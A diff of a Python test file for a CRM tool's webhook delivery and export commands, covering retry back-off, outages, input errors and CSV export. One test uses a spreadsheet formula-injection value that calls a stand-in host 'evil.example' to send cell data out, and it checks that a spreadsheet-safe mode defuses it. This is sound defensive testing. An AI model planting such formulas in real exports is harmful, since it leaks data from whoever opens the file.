@@ -185,6 +185,7 @@ def test_retry_delays_double_cap_and_honour_retry_after() -> None:
     assert [retry_delay(n, policy) for n in (1, 2, 3, 6, 7)] == [1.0, 2.0, 4.0, 30.0, 30.0]
     assert retry_delay(1, policy, retry_after=12) == 12.0
     assert retry_delay(1, policy, retry_after=3600) == 30.0  # within reason: at most --max-backoff
+    assert retry_delay(5000, policy) == 30.0  # no float overflow after 1,025 attempts
     jittered = retry_delay(2, DeliveryPolicy(backoff=1.0, jitter=0.1), rng=random.Random(1))
     assert 2.0 <= jittered <= 2.2
     assert parse_retry_after("7") == 7.0
@@ -230,7 +231,8 @@ def test_always_failing_receiver_dead_letters_after_max_attempts(tmp_path: Path,
     monkeypatch.setenv("CRMSCORE_WEBHOOK_SECRET", SECRET)
     with serve(Receiver(lambda n, i: "500")) as receiver:
         result = runner.invoke(
-            app, ["triggers", "deliver", "--url", receiver.url, "--max-attempts", "3", "--backoff", "0.01", "--store", str(tmp_path)]
+            app,
+            ["triggers", "deliver", "--url", receiver.url, "--max-attempts", "3", "--backoff", "0.01", "--max-backoff", "0.02", "--store", str(tmp_path)],
         )
     assert result.exit_code == 1, result.output
     assert "6 event(s) dead-lettered" in result.output
@@ -270,11 +272,39 @@ def test_no_wait_makes_one_pass_and_leaves_scheduled_retries(tmp_path: Path) -> 
     store = make_store(tmp_path, customers=2)  # 3 events
     first = event_ids(store)[0]
     with serve(Receiver(lambda n, i: "500" if i == first else "ok")) as receiver:
-        report = deliver(store, receiver.url, SECRET, DeliveryPolicy(backoff=30, wait=False))
-    assert (report.delivered, report.retried, report.pending) == (2, 1, 1)
+        report = deliver(store, receiver.url, SECRET, DeliveryPolicy(backoff=30, wait=False, concurrency=1))
+    # The failure holds the run for 30 s: a one-pass run ends there; the others used no attempt.
+    assert (report.attempts, report.delivered, report.retried, report.pending) == (1, 0, 1, 3)
     assert "still pending" in (report.failure_reason() or "")
     event = store.get_event(first)
     assert event["status"] == "pending" and event["attempts"] == 1  # type: ignore[index]
+    assert {e["attempts"] for e in store.iter_events() if e["id"] != first} == {0}
+    # The next pass (the hold is over) sends the rest; the failed one waits for its retry time.
+    with serve(Receiver(lambda n, i: "ok")) as receiver:
+        report = deliver(store, receiver.url, SECRET, DeliveryPolicy(backoff=30, wait=False, concurrency=1))
+    assert (report.delivered, report.pending) == (2, 1)
+
+
+def test_a_receiver_down_for_ten_minutes_costs_a_few_attempts_not_the_outbox(tmp_path: Path) -> None:
+    store = make_store(tmp_path, customers=40)  # 60 events
+    start = datetime(2026, 1, 1)
+    now = [start]
+
+    def sleep(seconds: float) -> None:
+        now[0] += timedelta(seconds=seconds)
+
+    def decide(n: int, _: str) -> str:
+        return "503" if now[0] < start + timedelta(minutes=10) else "ok"
+
+    with serve(Receiver(decide)) as receiver:
+        # The defaults: 10 attempts per event, back-off from 1 s up to 300 s.
+        report = deliver(store, receiver.url, SECRET, DeliveryPolicy(jitter=0.0), clock=lambda: now[0], sleep=sleep)
+    assert report.ok and report.delivered == 60 and report.dead == 0, report
+    failed = report.status_codes["503"]
+    # Up to 4 in flight when it went down, then one probe at a time after 16, 32, ... 256, 300 s.
+    assert failed <= 11, report.status_codes
+    assert now[0] >= start + timedelta(minutes=10)
+    assert max(e["attempts"] for e in store.iter_events()) <= 11
 
 
 def test_wait_mode_sleeps_until_the_next_retry_is_due(tmp_path: Path) -> None:
@@ -298,7 +328,9 @@ def test_wait_mode_sleeps_until_the_next_retry_is_due(tmp_path: Path) -> None:
         policy = DeliveryPolicy(backoff=5, max_backoff=60, jitter=0.0)
         report = deliver(store, receiver.url, SECRET, policy, clock=lambda: now[0], sleep=sleep)
     assert report.ok and report.attempts == 4 and report.delivered == 2
-    assert slept == [5.0, 10.0]  # the back-off doubles
+    # The back-off doubles: the failing event goes again 5 s, then 10 s after its failures
+    # (the run also holds 5 s after each failure, sending the other event meanwhile).
+    assert sum(slept) == 15.0 and store.get_event(first)["attempts"] == 3  # type: ignore[index]
 
 
 def test_missing_secret_fails_and_marks_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -319,6 +351,15 @@ def test_bad_url_and_missing_store_are_one_line_errors(tmp_path: Path, monkeypat
     assert result.exit_code == 1 and "http(s) URL" in result.output
     result = runner.invoke(app, ["triggers", "export", "--format", "jsonl", "--store", str(tmp_path / "nope")])
     assert result.exit_code == 1 and "no score store" in result.output
+    for url in ("http://localhost:99999/hook", "http://localhost:abc/hook"):
+        result = runner.invoke(app, ["triggers", "deliver", "--url", url, "--store", str(tmp_path / "s")])
+        assert result.exit_code == 1 and "--url has a bad port" in result.output, result.output
+    (tmp_path / "bad").mkdir()
+    (tmp_path / "bad" / "scores.sqlite").write_bytes(b"not a database, just some bytes" * 100)
+    for command in (["triggers", "export", "--format", "jsonl"], ["triggers", "deliver", "--url", "http://localhost:9/h"]):
+        result = runner.invoke(app, [*command, "--store", str(tmp_path / "bad")])
+        assert result.exit_code == 1 and "cannot be read as a score store" in result.output, result.output
+        assert "Traceback" not in result.output
 
 
 def test_only_one_delivery_at_a_time(tmp_path: Path) -> None:
@@ -397,3 +438,24 @@ def test_export_jsonl_and_csv(tmp_path: Path) -> None:
     assert rows[1]["type"] == "segment.entered" and rows[1]["name"] == "win_back" and rows[1]["value"] == ""
     # Exporting marks nothing.
     assert store.event_counts() == {"pending": len(ids) - 1, "delivered": 1, "dead": 0}
+
+
+def test_csv_export_for_spreadsheets_defuses_formulas(tmp_path: Path) -> None:
+    # Customer ids come from the profile: one that looks like a formula must not run when a
+    # marketer opens the export in a spreadsheet (with --spreadsheet-safe); plain export keeps it exact.
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    current = pd.DataFrame({"customer_id": [formula, "-42", "c-1"], "tag_churn_risk": pd.Series(["high"] * 3, dtype="str")})
+    store = ScoreStore(tmp_path)
+    events = diff_snapshots(None, current, run_id="run_1", as_of=AS_OF, created_at=CREATED, emit_initial=True)
+    store.write_snapshot("run_1", current)
+    store.commit_run(RunRecord("run_1", AS_OF, CREATED, None, 3, {"churn_propensity": "1"}, "r"), events)
+
+    exact = runner.invoke(app, ["triggers", "export", "--format", "csv", "--store", str(tmp_path)])
+    assert sorted(r["customer_id"] for r in csv.DictReader(io.StringIO(exact.stdout))) == sorted([formula, "-42", "c-1"])
+    safe = runner.invoke(app, ["triggers", "export", "--format", "csv", "--spreadsheet-safe", "--store", str(tmp_path)])
+    assert safe.exit_code == 0, safe.output
+    rows = list(csv.DictReader(io.StringIO(safe.stdout)))
+    assert sorted(r["customer_id"] for r in rows) == sorted(["'" + formula, "'-42", "c-1"])
+    assert not any(value.startswith(("=", "+", "-", "@")) for r in rows for value in r.values())
+    refused = runner.invoke(app, ["triggers", "export", "--format", "jsonl", "--spreadsheet-safe", "--store", str(tmp_path)])
+    assert refused.exit_code == 1 and "csv only" in refused.output
